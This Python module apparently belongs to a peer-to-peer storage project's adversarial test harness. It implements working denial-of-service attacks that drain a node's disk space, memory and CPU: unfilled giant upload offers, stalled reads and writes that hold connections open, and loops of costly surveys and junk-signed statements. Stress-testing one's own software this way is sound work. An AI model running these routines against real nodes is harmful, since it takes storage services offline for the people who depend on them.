"""Attacks by requests that cost the victim more than the attacker: room, memory, time, CPU."""

import os
import socket
import time
from collections.abc import Awaitable, Callable, Sequence
from contextlib import suppress
from functools import partial

import msgpack
import trio

from hostile.means import Means
from shoal.dht import Address, NodeId, Reach
from shoal.erasure import BLOCK_BYTES, FileId
from shoal.node.channel import (
    MAX_BLOCKS_COUNT,
    MAX_SURVEY_COUNT,
    Abort,
    Offer,
    PeerConnection,
    PeerError,
    Read,
    Survey,
    TellHolders,
    Write,
)
from shoal.node.channel.frames import FrameReader
from shoal.node.channel.hello import client_hello
from shoal.node.channel.limits import Throttle
from shoal.node.channel.messages import encode_hello, encode_request
from shoal.node.holders.statements import MAX_STATEMENTS, make_statement
from shoal.node.holders.surveys import unpack_survey

GIB = 2**30
LARGE_OFFERS = tuple(size * GIB for size in (11, 8, 4, 2, 1, 1))  # whatever is left of a node's room
OFFERS = 4_096
LEASE_S = 3_600
ANSWER_S = 5.0
AGAIN_S = 1.0
READERS = 40  # connections to each victim
READS_EACH = 4  # of 1 MiB: as much as one connection may have under way
WINDOW_BYTES = 2_048
STALLED_WRITES = 40  # connections to each victim, each with a write whose payload does not come
ESTABLISHED = 1  # a TCP connection that neither side has closed, as the kernel numbers it
ASKERS = 2  # connections to each victim that survey and tell in a loop

Target = tuple[Address, NodeId]


async def _at_each_victim(means: Means, count: int, work: Callable[[Target, int], Awaitable[None]]) -> None:
    """Do `work` so many times at each victim, and again whenever it ends."""

    async def again(victim: Target, number: int) -> None:
        while True:
            with suppress(PeerError, OSError, trio.TooSlowError):
                await work(victim, number)
            await trio.sleep(AGAIN_S)

    async with trio.open_nursery() as nursery:
        for number in range(count):
            for victim in means.victims:
                nursery.start_soon(again, victim, number)


# --- room


async def large_offers(means: Means, *, task_status: trio.TaskStatus[None] = trio.TASK_STATUS_IGNORED) -> None:
    """Offers of 11 GiB and less, of which nothing is ever sent."""
    means.notes["offers accepted"] = 0
    task_status.started()
    await _at_each_victim(means, 1, partial(_offer_again, means, LARGE_OFFERS))


async def many_offers(means: Means, *, task_status: trio.TaskStatus[None] = trio.TASK_STATUS_IGNORED) -> None:
    """4,096 offers without a bound."""
    means.notes["offers accepted"] = 0
    task_status.started()
    await _at_each_victim(means, 1, partial(_offer_again, means, [0] * OFFERS))


async def _offer_again(means: Means, sizes: Sequence[int], victim: Target, number: int) -> None:
    async with means.talk(victim, number) as connection:
        for size in sizes:
            await _offer(means, connection, size)


async def _offer(means: Means, connection: PeerConnection, size: int) -> bytes:
    upload_id = os.urandom(16)
    try:
        await connection.request(Offer(upload_id, size, LEASE_S, b""), timeout_s=ANSWER_S)
        means.notes["offers accepted"] += 1
    except PeerError:
        if connection.closed:
            raise
    return upload_id


async def one_synced_byte(means: Means, *, task_status: trio.TaskStatus[None] = trio.TASK_STATUS_IGNORED) -> None:
    """Offers of 11 GiB and of no bound, with one byte written and synced to each."""
    means.notes["offers accepted"] = 0
    task_status.started()
    await _at_each_victim(means, 1, partial(_sync_a_byte, means))


async def _sync_a_byte(means: Means, victim: Target, number: int) -> None:
    async with means.talk(victim, number) as connection:
        for size in (*LARGE_OFFERS, *[0] * 58):
            upload_id = await _offer(means, connection, size)
            try:
                await connection.request(Write(upload_id, 0, os.urandom(32), True), payload=[b"\0"], timeout_s=ANSWER_S)
            except PeerError:
                if connection.closed:
                    raise


async def aborted_uploads(means: Means, *, task_status: trio.TaskStatus[None] = trio.TASK_STATUS_IGNORED) -> None:
    """Uploads of 1 MiB that are given up as soon as they are written and synced."""
    means.notes["offers accepted"] = 0
    task_status.started()
    await _at_each_victim(means, 1, partial(_write_and_abort, means))


async def _write_and_abort(means: Means, victim: Target, number: int) -> None:
    payload = bytes(MAX_BLOCKS_COUNT * BLOCK_BYTES)
    leaves = os.urandom(32 * MAX_BLOCKS_COUNT)
    async with means.talk(victim, number) as connection:
        for _ in range(20):
            upload_id = await _offer(means, connection, 2**20)
            await connection.request(Write(upload_id, 0, leaves, True), payload=[payload], timeout_s=ANSWER_S)
            await connection.request(Abort(upload_id), timeout_s=ANSWER_S)


# --- memory


async def unread_reads(means: Means, *, task_status: trio.TaskStatus[None] = trio.TASK_STATUS_IGNORED) -> None:
    """Reads of 1 MiB over connections with a tiny window, of which nothing is read."""
    shares = {victim: await _share_of(means, victim) for victim in means.victims}
    means.streams.window = WINDOW_BYTES
    task_status.started()
    await _at_each_victim(means, READERS, partial(_read_without_reading, means, shares))


async def _share_of(means: Means, victim: Target) -> tuple[FileId, int] | None:
    """A share of a large file that the victim keeps."""
    async with means.talk(victim) as connection:
        reply = await connection.request(Survey(b"".join(means.file_ids), False), timeout_s=ANSWER_S)
    entries = unpack_survey(bytes(reply.payload), len(means.file_ids))
    for file_id, entry in zip(means.file_ids, entries, strict=False):
        if entry and not isinstance(entry, bytes):
            return file_id, entry[0].share
    return None


async def _read_without_reading(
    means: Means, shares: dict[Target, tuple[FileId, int] | None], victim: Target, number: int
) -> None:
    found = shares[victim]
    if found is None:
        await trio.sleep_forever()
        return
    requests = [encode_request(each, Read(*found, 0, MAX_BLOCKS_COUNT, True)) for each in range(READS_EACH)]
    await _send_and_hold(means, victim, number, [_frame(each, 0) for each in requests])


async def withheld_payloads(means: Means, *, task_status: trio.TaskStatus[None] = trio.TASK_STATUS_IGNORED) -> None:
    """Writes that promise 1 MiB of payload and send none of it."""
    task_status.started()
    await _at_each_victim(means, STALLED_WRITES, partial(_promise, means))


async def _promise(means: Means, victim: Target, number: int) -> None:
    write = encode_request(1, Write(os.urandom(16), 0, os.urandom(32 * MAX_BLOCKS_COUNT), False))
    await _send_and_hold(means, victim, number, [_frame(write, MAX_BLOCKS_COUNT * BLOCK_BYTES)])


async def _send_and_hold(means: Means, victim: Target, number: int, frames: Sequence[bytes]) -> None:
    """Begin a conversation, send some frames, and do nothing more until the victim closes the connection."""
    means.streams.number = number
    sock, stream = await means.streams.connect_by(victim[0])
    try:
        await FrameReader(stream, Throttle()).read_head()
        await stream.send(_frame(encode_hello(client_hello()), 0), *frames)
        while sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == ESTABLISHED:  # noqa: ASYNC110
            await trio.sleep(AGAIN_S)
    finally:
        stream.abort()


def _frame(header: bytes, payload_bytes: int) -> bytes:
    return len(header).to_bytes(4, "big") + payload_bytes.to_bytes(4, "big") + header


# --- CPU


async def surveys(means: Means, *, task_status: trio.TaskStatus[None] = trio.TASK_STATUS_IGNORED) -> None:
    """Surveys of 1,024 files with statements, in a loop."""
    means.notes["surveys answered"] = 0
    task_status.started()
    await _at_each_victim(means, ASKERS, partial(_survey, means))


async def _survey(means: Means, victim: Target, number: int) -> None:
    known = b"".join(means.file_ids) * (MAX_SURVEY_COUNT // len(means.file_ids))
    async with means.talk(victim, number) as connection:
        while True:
            await connection.request(Survey(known, True), timeout_s=60)
            means.notes["surveys answered"] += 1


async def junk_statements(means: Means, *, task_status: trio.TaskStatus[None] = trio.TASK_STATUS_IGNORED) -> None:
    """1,024 statements about a file that the victim keeps, their signatures junk, in a loop."""
    means.notes["statements sent"] = 0
    task_status.started()
    await _at_each_victim(means, ASKERS, partial(_tell_junk, means))


async def _tell_junk(means: Means, victim: Target, number: int) -> None:
    found = await _share_of(means, victim)
    if found is None:
        await trio.sleep_forever()
        return
    identity = means.identity()
    good = make_statement(identity, means.params.network_id, *found, Reach.of(victim[0]), 2**40, time.time()).signed
    async with means.talk(victim, number) as connection:
        while True:
            junk = [good[:-8] + means.rng.randbytes(8) for _ in range(MAX_STATEMENTS)]
            payload = msgpack.packb(junk, use_bin_type=True)
            try:
                await connection.request(TellHolders(found[0]), payload=[payload], timeout_s=60)
            finally:
                means.notes["statements sent"] += MAX_STATEMENTS
